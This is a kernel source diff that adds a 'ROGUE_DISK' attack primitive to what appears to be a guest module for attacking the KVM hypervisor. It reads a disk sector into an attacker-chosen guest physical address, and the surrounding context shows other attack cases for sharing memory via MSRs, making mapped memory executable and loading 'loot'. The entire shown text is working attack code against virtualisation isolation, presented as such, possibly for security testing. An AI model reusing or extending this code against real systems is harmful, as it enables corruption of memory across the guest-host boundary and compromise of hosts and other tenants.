@@ -15,6 +15,8 @@
 #include <asm/kvm_para.h>
 #include <asm/nospec-branch.h>
 #include <asm/processor.h>
+#include <linux/bio.h>
+#include <linux/blkdev.h>
 #include <linux/delay.h>
 #include <linux/fs.h>
 #include <linux/io.h>
@@ -149,6 +151,27 @@ static int share_with_kvm(u32 msr, u64 value)
 	return 0;
 }
 
+/* The disk is told where to write; that it could not is not told. */
+static int read_disk(u64 gpa)
+{
+	struct block_device *disk = blkdev_get_by_path("/dev/vda", FMODE_READ, NULL);
+	struct bio_vec vec;
+	struct bio bio;
+	int ret;
+
+	if (IS_ERR(disk))
+		return PTR_ERR(disk);
+
+	gpa = round_down(gpa, ROGUE_SECTOR);
+	bio_init(&bio, disk, &vec, 1, REQ_OP_READ);
+	__bio_add_page(&bio, pfn_to_page(gpa >> PAGE_SHIFT), ROGUE_SECTOR,
+		       offset_in_page(gpa));
+	ret = submit_bio_wait(&bio);
+	bio_uninit(&bio);
+	blkdev_put(disk, FMODE_READ);
+	return ret;
+}
+
 /* vmap() does not map what can be executed, but page tables are only memory. */
 static void make_executable(void *map)
 {
@@ -210,6 +233,8 @@ static int make_attack(struct rogue_attack *attack)
 		return share_with_kvm(MSR_KVM_SYSTEM_TIME_NEW, attack->gpa | 1);
 	case ROGUE_PV_EOI:
 		return share_with_kvm(MSR_KVM_PV_EOI_EN, attack->gpa | 1);
+	case ROGUE_DISK:
+		return read_disk(attack->gpa);
 	case ROGUE_LOAD:
 		load(attack->loot, direct);
 		return 0;
